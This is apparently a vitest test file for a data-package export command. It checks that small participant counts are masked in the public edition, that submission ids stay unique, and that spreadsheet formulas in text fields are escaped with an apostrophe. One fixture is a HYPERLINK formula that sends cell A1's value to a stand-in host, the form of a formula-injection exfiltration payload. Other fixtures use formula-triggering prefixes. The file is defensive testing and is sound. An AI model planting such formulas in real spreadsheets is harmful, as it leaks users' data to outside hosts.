import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCommand } from '../../cli/command-export.ts';
import { writeWorkbook } from '../../cli/xlsx/write-workbook.ts';
import { safeText } from '../../core/engine/data-package/safe-text.ts';
import { loadPackage } from '../support/data-package-library.ts';
import { submissionBook, withEntry, withSheet } from '../support/submission-book.ts';

const folder = mkdtempSync(join(tmpdir(), 'export-aman-'));
const books = join(folder, 'kiriman');

const FORMULA = '=HYPERLINK("http://contoh.test/?"&A1,"klik")';
const LINES = 'Materi: +62 dan hukum; @ab -butir ;=1+1';

beforeAll(async () => {
  mkdirSync(books);
  let book = submissionBook({ agency: 'DPPPA', after: 0, cover: { id_pengiriman: null } });
  const entries = [
    [0, 'judul_kegiatan', FORMULA],
    [1, 'judul_kegiatan', LINES],
    [0, 'peserta_l', 20],
    [0, 'peserta_p', 30],
    [0, 'peserta_anak', 2],
    [0, 'peserta_disabilitas', 0],
    [0, 'peserta_asn_gt', 47],
    [1, 'peserta_l', 1],
    [1, 'peserta_p', 2],
    [1, 'peserta_anak', 0],
    [1, 'peserta_disabilitas', 1],
    [1, 'peserta_asn_gt', null],
  ] as const;
  for (const [record, field, entry] of entries)
    book = withSheet(book, 'T06', (sheet) => withEntry(sheet, record, field, entry));
  writeFileSync(join(books, 'a.xlsx'), await writeWorkbook(book));
});

afterAll(() => rmSync(folder, { recursive: true }));

/** Exports the workbook and reads its activities with the library of the Frictionless project. */
async function activitiesOf(name: string, ...words: readonly string[]) {
  const out = join(folder, name);
  const terminal = {
    out: () => undefined,
    err: () => undefined,
    colours: false,
    progress: () => undefined,
  };
  expect(exportCommand([books, '--out', out, '--today=2024-08-08', ...words], terminal)).toBe(0);
  const { resources, valid } = await loadPackage(join(out, 'datapackage.json'));
  expect(valid).toBe(true);
  const rows = await resources
    .find((one) => one.name === 't06-kegiatan')
    ?.read({ keyed: true, relations: true });
  const csv = readFileSync(join(out, 'data/t06-kegiatan.csv'), 'utf8');
  return { rows: rows ?? [], csv, out };
}

describe('counts of persons in a data package', () => {
  it('are masked in the public edition while they are small, with what would give them away', async () => {
    const { rows, csv, out } = await activitiesOf('terbuka', '--public');
    expect(rows).toMatchObject([
      // 50 took part and 47 of them are civil servants, which would leave at most 3 children.
      {
        peserta_anak: null,
        peserta_disabilitas: null,
        peserta_asn_gt: null,
        peserta_l: 20,
        peserta_total: 50,
      },
      // Of 3 people not even that there are no children is told.
      {
        peserta_anak: null,
        peserta_disabilitas: null,
        peserta_l: null,
        peserta_p: null,
        peserta_total: null,
      },
    ]);
    expect(csv.match(/,\*/g)).toHaveLength(8);
    const said = readFileSync(join(out, 'datapackage.json'), 'utf8');
    expect(said).toContain('Angka 1 sampai 4 disamarkan');
    expect(said).toContain('"missingValues": [\n          "",\n          "*"');
  });

  it('are masked below another threshold where one is asked for', async () => {
    const { rows } = await activitiesOf('terbuka-3', '--public', '--k', '3');
    expect(rows).toMatchObject([
      { peserta_anak: null, peserta_asn_gt: 47 },
      { peserta_disabilitas: null, peserta_total: 3, peserta_l: 1 },
    ]);
  });

  it('are told in the internal edition', async () => {
    const { rows } = await activitiesOf('internal');
    expect(rows).toMatchObject([
      { peserta_anak: 2, peserta_asn_gt: 47 },
      { peserta_disabilitas: 1, peserta_total: 3 },
    ]);
  });
});

describe('the submission of a row', () => {
  it('has the id with which it was sent, and one of its own where two say the same or none', async () => {
    const sent = join(folder, 'terkirim');
    mkdirSync(sent);
    const made = [
      ['a', 'DPPPA', '3173-DPPPA-2024-M07-ALL-v1'],
      ['b', 'RS', '3173-RS-2024-M07-ALL-v1'],
      ['c', 'DINSOS', '3173-RS-2024-M07-ALL-v1'],
      ['d', 'POLRES', 'Kiriman Juli kami'],
    ] as const;
    for (const [i, [name, agency, id]] of made.entries()) {
      const book = submissionBook({ agency, after: i * 100, cover: { id_pengiriman: id } });
      writeFileSync(join(sent, `${name}.xlsx`), await writeWorkbook(book));
    }
    const out = join(folder, 'paket-terkirim');
    const terminal = {
      out: () => undefined,
      err: () => undefined,
      colours: false,
      progress: () => undefined,
    };
    exportCommand([sent, '--out', out, '--today=2024-08-08'], terminal);
    const ids = readFileSync(join(out, 'data/pengiriman.csv'), 'utf8')
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[0]);
    expect(ids).toHaveLength(4);
    expect(new Set(ids).size).toBe(4);
    expect(ids).toContain('3173-DPPPA-2024-M07-ALL-v1');
    expect(ids.join()).not.toMatch(/3173-RS-2024-M07-ALL-v1|Kiriman Juli/);
    const rows = readFileSync(join(out, 'data/t06-kegiatan.csv'), 'utf8');
    expect(rows).toContain('\r\n3173-DPPPA-2024-M07-ALL-v1,');
  });
});

describe('texts of a data package', () => {
  it('are no formulas in a spreadsheet, in both editions, and say how they were changed', async () => {
    for (const words of [['--public'], []]) {
      const { rows, csv, out } = await activitiesOf(`rumus${words.length}`, ...words);
      expect(rows.map((row) => row['judul_kegiatan'])).toEqual([
        `'${FORMULA}`,
        "Materi: +62 dan hukum; @ab -butir ;'=1+1",
      ]);
      // Neither with commas nor with semicolons between cells does one begin like a formula; numbers do not change.
      expect(csv).not.toMatch(/(^|[,;\t\r\n])"?[=+@-]/m);
      for (const file of ['README.md', 'datapackage.json'])
        expect(readFileSync(join(out, file), 'utf8')).toContain('tanda petik');
    }
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['a\n-b\n@c', "a\n'-b\n'@c"],
    ['+62 812', "'+62 812"],
    ['-', "'-"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['＝1+1', "'＝1+1"],
    ['\t=1', "'\t'=1"],
    ['\rx', "'\rx"],
    ["'=1", "''=1"],
    ["'Aisyiyah", "'Aisyiyah"],
    ['a = b; c - d', 'a = b; c - d'],
    ['pelatihan;=A1', "pelatihan;'=A1"],
    ['', ''],
  ])('%j becomes %j, and one apostrophe less gives it back', (before, after) => {
    expect(safeText(before)).toBe(after);
    const back = after.replace(/^'('*[\t\r\n])/, '$1').replace(/(^|[;\t\r\n])'('*[=+\-@＝＋－＠])/g, '$1$2');
    expect(back).toBe(before);
  });

  it('hold no NUL, which our own reader of CSV refuses, nor a formula behind one', () => {
    expect(safeText('Rapat\0 koordinasi')).toBe('Rapat koordinasi');
    expect(safeText('\0=1+1')).toBe("'=1+1");
  });
});
